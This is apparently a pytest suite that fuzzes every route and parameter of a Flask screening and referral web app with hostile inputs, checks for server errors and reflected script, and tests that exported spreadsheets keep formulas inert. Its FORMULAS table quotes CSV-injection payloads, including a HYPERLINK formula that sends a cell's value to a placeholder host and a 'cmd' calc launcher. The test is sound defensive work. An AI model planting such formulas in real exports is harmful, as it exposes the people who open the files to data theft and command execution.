"""Bad input never gives a 500: every route × every parameter it reads × a table of hostile values,
as every kind of user, plus hostile path segments for every route with a variable.

The routes come from `app.url_map` and the parameters each route reads are checked against the
table below while the test runs (a recording stand-in for `request.args` / `request.form`), so a
new route or a new parameter fails here until someone adds it to the table. One app and one
world per module: the many thousand requests share them, and each case resets only what it
changes (the officer's draft, the referral it acts on).
"""

import csv
import re
from dataclasses import dataclass, field
from io import BytesIO
from urllib.parse import quote, urlsplit

import openpyxl
import pytest
from flask import Request, got_request_exception
from werkzeug.datastructures import ImmutableMultiDict

from screening import journey
from screening.clock import now_iso
from screening.demo.screenings import HEALTHY
from screening.exports import FORMULA_STARTS
from screening.printing import jobs as print_jobs
from screening.roster.columns import LABELS
from screening.store import responses
from screening.web import auth, library
from screening.web.app import create_app
from screening.web.database import get_db
from screening.web.forms.questionnaire import confirm_name, unknown_name
from screening.web.views.screening import consent_version
from tests import apps, factories
from tests.acting import act_as
from tests.factories import officer_with_link
from tests.hostile import HOSTILE, SCRIPT

# Path segments: the same, as a client would put them in the address (quoted).
HOSTILE_SEGMENTS = {name: quote(value, safe="") for name, value in HOSTILE.items()}

WHO = ("anonymous", "officer", "clinician", "kpu", "admin", "pps")

# The draft officer's answers: healthy, with every follow-up question revealed, so each step page
# shows (and reads) all its items.
REVEALING = {
    **HEALTHY,
    "nyeri_dada": "ya",
    "dada_menanjak": "ya",
    "dada_jalan_biasa": "ya",
    "dada_saat_jalan": "berhenti",
    "dada_lokasi": ["tengah"],
    "td_tahu": "ya",
    "td_sistolik": "120",
    "td_diastolik": "80",
    "gd_tahu": "ya",
    "gd_hasil": "100",
}
URGENT = {**HEALTHY, "td_tahu": "ya", "td_sistolik": "185", "td_diastolik": "112"}


@dataclass
class Route:
    """How to call one (endpoint, method) with valid values, and what it reads.

    `query` and `form` map each parameter the route reads to a valid value (the baseline every
    hostile value replaces one at a time); `officer` is the state the officer user is in.
    """

    path: str
    query: dict = field(default_factory=dict)
    form: dict = field(default_factory=dict)
    files: tuple = ()  # form names that carry an uploaded file
    officer: str = "draft"  # new | draft | submitted


NEW_STAFF = {
    "username": "staf.baru",
    "full_name": "Staf Baru",
    "role": "kpu",
    "fktp_code": "",
    "area_code": "",
    "password": "kata-sandi-baru-1",
    "password_again": "kata-sandi-baru-1",
}
NEW_PASSWORD = {"password": "kata-sandi-baru-1", "password_again": "kata-sandi-baru-1"}
FOLLOWUP = {
    "dari": "{status}",
    "sistolik": "130",
    "diastolik": "85",
    "gula_darah": "110",
    "gula_jenis": "sewaktu",
    "berat_kg": "70,5",
    "lingkar_perut_cm": "90",
    "temuan_lain": "",
    "diagnosis": "I10",
    "diagnosis_lain": "",
    "tindakan": "edukasi",
    "kelayakan": "layak",
    "alasan_tidak_diukur": "",
    "catatan_kpu": "",
    "catatan": "",
    "aksi": "simpan",
}
AREA = {"kecamatan": "337501", "kelurahan": "3375011002", "tps": "1"}
OFFICER_FILTERS = {"status": "belum", "jkn": "aktif", "bpjs_tk": "belum"}

# (endpoint, method) → Route. Placeholders: {referral} a fresh referral at the clinician's FKTP,
# {unassigned} a fresh one without FKTP, {staff_id} an account the admin may change,
# {officer_id} an officer KPU may reissue or revoke, {token} a live personal link, {step} every
# step of the draft (its items are the form), {status} the referral's current status.
ROUTES = {
    ("static", "GET"): Route("/static/{filename}"),
    ("public.home", "GET"): Route("/"),
    ("public.switch_language", "GET"): Route("/bahasa/{lang}", query={"next": "/staf/"}),
    ("officer.open_link", "GET"): Route("/s/{token}"),
    ("officer.sign_in", "GET"): Route("/masuk"),
    ("officer.sign_in", "POST"): Route("/masuk", form={"nik": "{nik}", "code": "XXXXXX"}),
    ("officer.sign_out", "POST"): Route("/keluar"),
    ("staff.sign_in", "GET"): Route("/staf/masuk", query={"next": "/staf/"}),
    ("staff.sign_in", "POST"): Route(
        "/staf/masuk",
        query={"next": "/staf/"},
        form={"username": "{username}", "password": factories.PASSWORD},
    ),
    ("staff.sign_out", "POST"): Route("/staf/keluar"),
    ("second_factor.code", "GET"): Route("/staf/masuk/kode", query={"next": "/staf/"}),
    ("second_factor.code", "POST"): Route(
        "/staf/masuk/kode", query={"next": "/staf/"}, form={"code": "123456"}
    ),
    ("second_factor.enrol", "GET"): Route("/staf/verifikasi-dua-langkah", query={"next": "/staf/"}),
    ("second_factor.enrol", "POST"): Route(
        "/staf/verifikasi-dua-langkah",
        query={"next": "/staf/"},
        form={"code": "123456", "password": factories.PASSWORD},
    ),
    ("second_factor.security", "GET"): Route("/staf/keamanan"),
    ("second_factor.renew_codes", "POST"): Route(
        "/staf/keamanan/kode-pemulihan", form={"code": "123456"}
    ),
    ("staff.home", "GET"): Route("/staf/"),
    ("screening.start", "GET"): Route("/skrining/"),
    ("screening.consent", "GET"): Route("/skrining/persetujuan", officer="new"),
    ("screening.consent", "POST"): Route(
        "/skrining/persetujuan", form={"keputusan": "x"}, officer="new"
    ),
    ("screening.declined", "GET"): Route("/skrining/menolak"),
    ("screening.step", "GET"): Route("/skrining/langkah/{step}", query={"dari": "periksa"}),
    ("screening.step", "POST"): Route(
        "/skrining/langkah/{step}", query={"dari": "periksa"}, form={"aksi": "lanjut"}
    ),
    ("screening.review", "GET"): Route("/skrining/periksa"),
    ("screening.review", "POST"): Route("/skrining/periksa"),
    ("screening.result", "GET"): Route("/skrining/hasil", officer="submitted"),
    ("officers.index", "GET"): Route(
        "/kpu/petugas/", query={**AREA, **OFFICER_FILTERS, "halaman": "1", "dicari": "1"}
    ),
    ("officers.index", "POST"): Route(
        "/kpu/petugas/", form={"cari": "Petugas", **AREA, **OFFICER_FILTERS, "tanpa_tps": "1"}
    ),
    ("officers.reissue_link", "GET"): Route("/kpu/petugas/{officer_id}/tautan-baru"),
    ("officers.revoke_link", "GET"): Route("/kpu/petugas/{officer_id}/cabut"),
    ("officers.export_links", "POST"): Route("/kpu/petugas/tautan.xlsx", form=AREA),
    ("officers.reissue_link", "POST"): Route(
        "/kpu/petugas/{officer_id}/tautan-baru", form={"konfirmasi": "ya"}
    ),
    ("officers.revoke_link", "POST"): Route(
        "/kpu/petugas/{officer_id}/cabut", form={"konfirmasi": "ya"}
    ),
    ("roster.upload", "GET"): Route("/kpu/roster/"),
    ("roster.upload", "POST"): Route("/kpu/roster/", files=("file",)),
    ("roster.preview", "GET"): Route("/kpu/roster/pratinjau"),
    ("roster.run_import", "POST"): Route("/kpu/roster/impor"),
    ("roster.done", "GET"): Route("/kpu/roster/selesai"),
    ("roster.rejected_rows", "GET"): Route("/kpu/roster/ditolak.{kind}"),
    ("roster.status_upload", "GET"): Route("/kpu/roster/status/"),
    ("roster.status_upload", "POST"): Route(
        "/kpu/roster/status/", form={"kind": "jkn"}, files=("file",)
    ),
    ("roster.status_preview", "GET"): Route("/kpu/roster/status/pratinjau"),
    ("roster.status_import", "POST"): Route("/kpu/roster/status/impor"),
    ("roster.status_done", "GET"): Route("/kpu/roster/status/selesai"),
    ("clinic.worklist", "GET"): Route(
        "/fktp/", query={"status": "baru", "kecamatan": "337501", "halaman": "1"}
    ),
    ("clinic.worklist", "POST"): Route(
        "/fktp/", form={"q": "Petugas", "status": "baru", "kecamatan": "337501"}
    ),
    ("referrals.show", "GET"): Route(
        "/rujukan/{referral}", query={"status": "baru", "kecamatan": "337501"}
    ),
    ("referrals.take_on", "POST"): Route("/rujukan/{referral}/ambil"),
    ("referrals.change_status", "POST"): Route(
        "/rujukan/{referral}/status", form={"dari": "{status}", "ke": "tidak_datang", "catatan": ""}
    ),
    # A refused schedule shows the referral page again, which reads the worklist's filters.
    ("referrals.schedule", "POST"): Route(
        "/rujukan/{referral}/jadwal",
        query={"status": "baru", "kecamatan": "337501"},
        form={"dari": "{status}", "tanggal": "2099-01-01", "jam": "09:30"},
    ),
    ("referrals.followup", "GET"): Route("/rujukan/{referral}/tindak-lanjut"),
    ("referrals.followup", "POST"): Route("/rujukan/{referral}/tindak-lanjut", form=FOLLOWUP),
    ("kpu_referrals.index", "GET"): Route(
        "/kpu/rujukan/", query={"status": "baru", "kecamatan": "337501", "halaman": "1"}
    ),
    ("exports.index", "GET"): Route("/kpu/ekspor/", query=AREA),
    ("exports.unscreened", "POST"): Route("/kpu/ekspor/belum-skrining.{kind}", form=AREA),
    ("exports.without_jkn", "POST"): Route("/kpu/ekspor/jkn.{kind}", form=AREA),
    ("exports.without_bpjs_tk", "POST"): Route(
        "/kpu/ekspor/bpjs-ketenagakerjaan.{kind}", form=AREA
    ),
    ("exports.referrals", "POST"): Route("/kpu/ekspor/rujukan.{kind}", form=AREA),
    ("kpu_referrals.unassigned", "GET"): Route("/kpu/rujukan/tanpa-fktp", query={"halaman": "1"}),
    ("overdue.index", "GET"): Route("/kpu/terlambat/", query={**AREA, "halaman": "1"}),
    ("coverage.index", "GET"): Route(
        "/kpu/cakupan/",
        query={"kecamatan": "337501", "kelurahan": "3375011002", "urut": "belum", "arah": "naik"},
    ),
    ("coverage.download", "GET"): Route(
        "/kpu/cakupan/cakupan.{kind}", query={"kecamatan": "337501", "kelurahan": "3375011002"}
    ),
    ("dinkes.index", "GET"): Route("/dinkes/"),
    ("dinkes.export", "GET"): Route("/dinkes/tindak-lanjut-fktp.{kind}"),
    ("kpu_referrals.assign", "POST"): Route(
        "/kpu/rujukan/{unassigned}/fktp", form={"fktp_code": "{fktp}", "kembali": "rujukan"}
    ),
    ("admin.staff_list", "GET"): Route("/admin/staf"),
    ("admin.new_staff", "GET"): Route("/admin/staf/baru"),
    ("admin.new_staff", "POST"): Route("/admin/staf/baru", form=NEW_STAFF),
    ("admin.disable_staff", "GET"): Route("/admin/staf/{staff_id}/nonaktifkan"),
    ("admin.disable_staff", "POST"): Route(
        "/admin/staf/{staff_id}/nonaktifkan", form={"konfirmasi": "ya"}
    ),
    ("admin.enable_staff", "POST"): Route("/admin/staf/{staff_id}/aktifkan"),
    ("admin.reset_password", "GET"): Route("/admin/staf/{staff_id}/kata-sandi"),
    ("admin.reset_password", "POST"): Route("/admin/staf/{staff_id}/kata-sandi", form=NEW_PASSWORD),
    ("admin.reset_second_factor", "POST"): Route(
        "/admin/staf/{staff_id}/verifikasi-dua-langkah/atur-ulang"
    ),
    ("admin.audit_log", "GET"): Route(
        "/admin/audit",
        query={
            "staf": "1",
            "aksi": "view",
            "subjek": "referral",
            "dari": "2024-01-01",
            "sampai": "2024-12-31",
            "halaman": "1",
        },
    ),
    ("slips.referral_letter", "GET"): Route("/kpu/rujukan/{referral}/surat.pdf"),
    ("slips.officer_letter", "GET"): Route("/skrining/hasil/surat.pdf", officer="submitted"),
    ("slips.print_area", "GET"): Route("/kpu/cetak/", query={"jenis": "slips", **AREA}),
    ("slips.print_area", "POST"): Route("/kpu/cetak/", form={"jenis": "slips", **AREA}),
    ("outbox.index", "GET"): Route("/kpu/pesan/", query={**AREA, "halaman": "1"}),
    ("outbox.mark_sent", "POST"): Route(
        "/kpu/pesan/{message_id}/terkirim", form={**AREA, "halaman": "1"}
    ),
    ("outbox.opt_out", "POST"): Route(
        "/kpu/pesan/petugas/{officer_id}/berhenti", form={**AREA, "halaman": "1"}
    ),
    ("officer_messages.officer_stop", "GET"): Route("/skrining/pesan"),
    ("officer_messages.officer_stop", "POST"): Route("/skrining/pesan", form={"pilihan": "terima"}),
    ("slips.print_job", "GET"): Route("/kpu/cetak/{job_id}"),
    ("slips.download", "GET"): Route("/kpu/cetak/{job_id}/unduh"),
    ("exports.job", "GET"): Route("/kpu/ekspor/berkas/{job_id}"),
    ("exports.job_download", "GET"): Route("/kpu/ekspor/berkas/{job_id}/unduh"),
}
# Valid values of path variables that need no world: the rest come from `World.fill`.
SEGMENTS = {
    "filename": "app.css",
    "lang": "en",
    "kind": "csv",
    "job_id": "0123456789abcdef",
    "message_id": "1",
}
IGNORED_PARAMETERS = {"csrf_token"}  # CSRF is off here; Flask-WTF still looks for it


# --- what a request reads ---------------------------------------------------------------------

_read: set[str] = set()


class RecordingMultiDict(ImmutableMultiDict):
    """`request.args` and `request.form` that note every name the app asks for."""

    def __getitem__(self, key):
        _read.add(key)
        return super().__getitem__(key)

    def get(self, key, default=None, type=None):
        _read.add(key)
        return super().get(key, default, type)

    def getlist(self, key, type=None):
        _read.add(key)
        return super().getlist(key, type)

    def __contains__(self, key):
        _read.add(key)
        return super().__contains__(key)


class RecordingRequest(Request):
    parameter_storage_class = RecordingMultiDict


_errors: list[str] = []


def _note_exception(sender, exception, **extra):
    _errors.append(f"{type(exception).__name__}: {str(exception)[:200]}")


# --- one app and world per module -------------------------------------------------------------


class World:
    def __init__(self, app, db):
        self.app, self.db = app, db
        self.make = factories.Factories(db)
        self.fktp = self.make.fktp()
        self.staff = {
            "clinician": self.make.staff(role="fktp", fktp_code=self.fktp["code"]),
            "kpu": self.make.staff(role="kpu"),
            "admin": self.make.staff(role="admin"),
            # An operator of the kelurahan the table's area filters name.
            "pps": self.make.staff(role="pps"),
        }
        # The staff sign-in's account, with a hash that is quick to check (see `world`).
        self.signs_in = self.make.staff(
            role="kpu", password_hash=auth.hash_password(factories.PASSWORD)
        )
        self.changed_by_admin = self.make.staff(role="kpu")
        self.linked, self.token, _code = officer_with_link(self.make, app)
        self.reissued, _token, _code = officer_with_link(self.make, app)
        self.questionnaire = library.live()
        self.revealing = None  # parsed answers, filled by the first draft
        self.steps = []
        self.officer("draft")

    def officer(self, state: str) -> dict:
        """A fresh officer in `state`: new (no consent yet), draft (answering) or submitted."""
        if state == "submitted":
            officer, _response, _referral = self.make.screened_officer(URGENT)
            return officer
        row = self.make.officer()
        officer = dict(next(self.db["officer"].rows_where("nik = ?", [row["nik"]])))
        if state == "draft":
            journey.decide_consent(
                self.db,
                officer,
                decision=journey.AGREED,
                text_version=consent_version(),
                questionnaire=self.questionnaire,
                polling_day=self.app.config["POLLING_DAY"],
                now=now_iso(),
            )
            draft = responses.response_for_officer(self.db, officer["id"])
            if self.revealing is None:
                self.revealing, _errors = self.questionnaire.parse_answers(
                    REVEALING, context=draft["context"], confirmed=set(REVEALING)
                )
                self.steps = journey.steps(self.questionnaire, self.revealing, draft["context"])
            officer["draft_id"] = draft["id"]
            self.reset_draft(officer)
        return officer

    def reset_draft(self, officer: dict) -> None:
        responses.save_draft(
            self.db, officer["draft_id"], answers=self.revealing, step=1, now=now_iso()
        )

    def referral(self, *, unassigned=False) -> dict:
        fields = {} if unassigned else {"fktp_code": self.fktp["code"]}
        _officer, _response, referral = self.make.screened_officer(URGENT, **fields)
        return referral


@pytest.fixture(scope="module")
def world(tmp_path_factory, migrated_db):
    folder = tmp_path_factory.mktemp("hostile")
    db_path = folder / "test.db"
    apps.copy_database(migrated_db, db_path)
    app = apps.build_app(
        db_path,
        ROSTER_UPLOAD_DIR=str(folder / "uploads"),  # not the checkout's instance folder
        RATELIMIT_ENABLED=False,  # the limits are proven in test_officer_sign_in
        # A server error becomes a 500 response (noted below), not an exception that ends the
        # case: one run lists every failing value.
        PROPAGATE_EXCEPTIONS=False,
    )
    got_request_exception.connect(_note_exception, app)
    app.request_class = RecordingRequest
    with pytest.MonkeyPatch.context() as patch, app.app_context():
        # Printing is proven in tests/pdf; here a started job only has to be asked for.
        patch.setattr(print_jobs, "start", lambda *args, **kwargs: {"id": "0123456789abcdef"})
        yield World(app, get_db())


# --- one case: a route as one user ------------------------------------------------------------


@dataclass
class Call:
    path: str
    query: dict
    form: dict
    files: tuple
    officer: dict | None
    # Names the route reads only to see whether a box was ticked: known, not worth fuzzing.
    boxes: frozenset = frozenset()


def _fill(text: str, values: dict) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: str(values[m.group(1)]), text)


def _calls(world: World, route: Route, who: str) -> list[Call]:
    """The route with valid values, once per step for the step pages."""
    officer = world.officer(route.officer) if who == "officer" else None
    values = {**SEGMENTS, "nik": world.linked["nik"], "username": world.signs_in["username"]}
    values.update(
        token=world.token,
        staff_id=world.changed_by_admin["id"],
        officer_id=world.reissued["id"],
        fktp=world.fktp["code"],
    )
    if "{referral}" in route.path:
        referral = world.referral()
        values.update(referral=referral["number"], status=referral["status"])
    if "{unassigned}" in route.path:
        values["unassigned"] = world.referral(unassigned=True)["number"]
    query = {k: _fill(v, values) for k, v in route.query.items()}
    form = {k: _fill(v, values) for k, v in route.form.items()}
    if "{step}" not in route.path:
        return [Call(_fill(route.path, values), query, form, route.files, officer)]
    calls = []
    for step in world.steps:
        page_form, boxes = dict(form), set()
        if route.form:
            for item in step.items:
                page_form[item.id] = REVEALING.get(item.id, "")
                # The number's "tidak tahu" and "sudah benar" boxes are fuzzed; other items'
                # boxes are only ever looked for.
                for box in (unknown_name(item.id), confirm_name(item.id)):
                    if item.type.name == "number":
                        page_form[box] = ""
                    else:
                        boxes.add(box)
        path = _fill(route.path, {"step": step.number})
        calls.append(Call(path, query, page_form, (), officer, frozenset(boxes)))
    return calls


def _become(client, world: World, who: str, officer: dict | None) -> None:
    """Set who is signed in, keeping whatever else the session holds (an upload, a search)."""
    if who in world.staff:
        act_as(client, "staff", world.staff[who]["id"], keep=True)
    elif who == "officer" and officer is not None:
        act_as(client, "officer", officer["id"], keep=True)
    else:
        act_as(client, None, keep=True)
    if officer is not None and "draft_id" in officer:
        world.reset_draft(officer)


def _roster_file(value: str) -> tuple[BytesIO, str]:
    """A roster with `value` in every column of its one row, under a name made of it."""
    header = ";".join(LABELS.values())
    row = ";".join(value.replace(";", ",").replace("\n", " ") for _ in LABELS)
    data = f"{header}\n{row}\n".encode()
    return BytesIO(data), f"{value[:100]}.csv"


SIGN_IN_PAGES = ("/staf/masuk", "/masuk")


def _send(client, method: str, call: Call, *, query=None, form=None, path=None):
    """One request, and the page a local redirect leads to (a bad value kept in the session
    shows there); returns the responses and the names the first request read."""
    data = dict(form if form is not None else call.form)
    for name in call.files:
        data[name] = _roster_file(data.get(name, "Baris"))
    _read.clear()
    response = client.open(
        path or call.path,
        method=method,
        query_string=query if query is not None else call.query,
        data=data,
    )
    read = set(_read)
    seen = [response]
    location = response.headers.get("Location", "")
    redirected = response.status_code in (301, 302, 303) and location.startswith("/")
    if redirected and urlsplit(location).path not in SIGN_IN_PAGES:
        seen.append(client.get(location))
    for each in seen:
        each.close()
    return seen, read


def _turned_away(response) -> bool:
    location = response.headers.get("Location", "")
    return response.status_code == 403 or urlsplit(location).path in SIGN_IN_PAGES


def _problems(label: str, seen: list) -> list[str]:
    problems = []
    for response in seen:
        if response.status_code >= 500:
            error = _errors.pop() if _errors else ""
            problems.append(f"{label}: {response.status_code} at {response.request.path} {error}")
        elif response.mimetype == "text/html" and SCRIPT in response.get_data(as_text=True):
            problems.append(f"{label}: {SCRIPT} reflected unescaped at {response.request.path}")
    return problems


def _routes() -> list[tuple[str, str]]:
    app = create_app({"TESTING": True, "SECRET_KEY": "routes", "DATABASE": ":memory:"})
    return sorted(
        {
            (rule.endpoint, method)
            for rule in app.url_map.iter_rules()
            for method in rule.methods - {"HEAD", "OPTIONS"}
        }
    )


def _cases(call: Call, turned_away: bool):
    """(label, where, values) for each request: every parameter on its own with each hostile
    value; a user the route turns away gets each hostile value in every parameter at once."""
    places = [("query", call.query), ("form", call.form)]
    if turned_away:
        for label, hostile in HOSTILE.items():
            yield (
                f"everything={label}",
                {where: dict.fromkeys(values, hostile) for where, values in places},
            )
        return
    for where, values in places:
        for name in values:
            for label, hostile in HOSTILE.items():
                yield f"{where} {name}={label}", {where: {**values, name: hostile}}


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize(("endpoint", "method"), _routes())
def test_no_hostile_value_in_any_parameter_gives_a_server_error(endpoint, method, who, world):
    assert (endpoint, method) in ROUTES, (
        f"{method} {endpoint} is not in the table of routes: add how to call it and what it reads"
    )
    client = world.app.test_client()
    problems = []
    for call in _calls(world, ROUTES[(endpoint, method)], who):
        _become(client, world, who, call.officer)
        seen, read = _send(client, method, call)
        problems += _problems("valid values", seen)
        unknown = read - {*call.query, *call.form, *call.files, *call.boxes, *IGNORED_PARAMETERS}
        assert not unknown, f"{method} {endpoint} reads {sorted(unknown)}: add them to the table"
        for label, changed in _cases(call, _turned_away(seen[0])):
            _become(client, world, who, call.officer)
            seen, _read_now = _send(client, method, call, **changed)
            problems += _problems(label, seen)
    assert not problems, "\n".join(problems[:20])


ROUTES_WITH_VARIABLES = [key for key, route in ROUTES.items() if "{" in route.path]


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize(("endpoint", "method"), ROUTES_WITH_VARIABLES)
def test_no_hostile_path_segment_gives_a_server_error(endpoint, method, who, world):
    route = ROUTES[(endpoint, method)]
    variables = re.findall(r"\{(\w+)\}", route.path)
    client = world.app.test_client()
    problems = []
    call = _calls(world, route, who)[0]
    valid = re.fullmatch(
        re.sub(r"\\\{(\w+)\\\}", r"(?P<\1>[^/]+)", re.escape(route.path)), call.path
    ).groupdict()
    for variable in variables:
        for label, segment in HOSTILE_SEGMENTS.items():
            _become(client, world, who, call.officer)
            path = _fill(route.path, {**valid, variable: segment})
            seen, _read_now = _send(client, method, call, path=path)
            problems += _problems(f"path {variable}={label}", seen)
    assert not problems, "\n".join(problems[:20])


def test_a_roster_of_hostile_cells_goes_through_upload_preview_import_and_hand_back(world):
    """The upload's file parameter above carries one hostile row; here every hostile value in
    every column goes the whole way, rejected rows handed back as CSV and Excel."""
    from tests.roster.helpers import FIELD_OF, HEADER, csv_bytes, good_cells

    rows = [HEADER]
    serial = 5000
    for value in HOSTILE.values():
        if "\x00" in value:  # a NUL makes the file binary: refused whole, proven in tests/roster
            continue
        for column in HEADER:
            cells = good_cells(serial, **{FIELD_OF[column]: value})
            rows.append([cells[FIELD_OF[h]] for h in HEADER])
            serial += 1
    client = world.app.test_client()
    _become(client, world, "kpu", None)
    steps = [
        client.post("/kpu/roster/", data={"file": (BytesIO(csv_bytes(rows)), "petugas.csv")}),
        client.get("/kpu/roster/pratinjau"),
        client.post("/kpu/roster/impor"),
        client.get("/kpu/roster/selesai"),
        client.get("/kpu/roster/ditolak.xlsx"),
        client.get("/kpu/roster/ditolak.csv"),  # handed back once imported: deleted, start again
    ]
    assert [r.status_code for r in steps] == [302, 200, 302, 200, 200, 302]
    for response in steps:
        assert response.mimetype != "text/html" or SCRIPT not in response.get_data(as_text=True)


# What a spreadsheet would run: OWASP's CSV-injection examples.
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://x"&F2,"Buka")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
}


def _live_formulas(response) -> list[str]:
    """Cells of a CSV or XLSX download that a spreadsheet would run as a formula."""
    if response.mimetype == "text/csv":
        text = response.get_data().decode("utf-8-sig")
        cells = [cell for row in csv.reader(text.splitlines(), delimiter=";") for cell in row]
        return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    sheet = openpyxl.load_workbook(BytesIO(response.get_data())).active
    return [
        repr(cell.value)
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def test_formulas_in_every_roster_column_come_out_inert_in_every_spreadsheet(world):
    from tests.roster.helpers import FIELD_OF, HEADER, csv_bytes, good_cells

    rows = [HEADER]
    serial = 7000
    for value in FORMULAS.values():
        for column in HEADER:
            # No FKTP: this world has none of the demo's, and the formula is the one fault.
            cells = good_cells(serial, **{"fktp_code": None, FIELD_OF[column]: value})
            rows.append([cells[FIELD_OF[h]] for h in HEADER])
            serial += 1
    imported = good_cells(serial, fktp_code=None, name=FORMULAS["hyperlink"])  # a name is text
    rows.append([imported[FIELD_OF[h]] for h in HEADER])
    client = world.app.test_client()
    _become(client, world, "kpu", None)
    upload = {"file": (BytesIO(csv_bytes(rows)), "petugas.csv")}
    assert client.post("/kpu/roster/", data=upload).status_code == 302
    downloads = [client.get("/kpu/roster/ditolak.csv"), client.get("/kpu/roster/ditolak.xlsx")]
    assert client.post("/kpu/roster/impor").status_code == 302
    downloads.append(client.post("/kpu/petugas/tautan.xlsx", data={"kelurahan": "3375011002"}))
    assert [r.status_code for r in downloads] == [200, 200, 200]
    for response in downloads:
        assert _live_formulas(response) == [], response.request.path
    links = openpyxl.load_workbook(BytesIO(downloads[2].get_data())).active
    assert "'" + FORMULAS["hyperlink"] in [row[0] for row in links.iter_rows(values_only=True)]
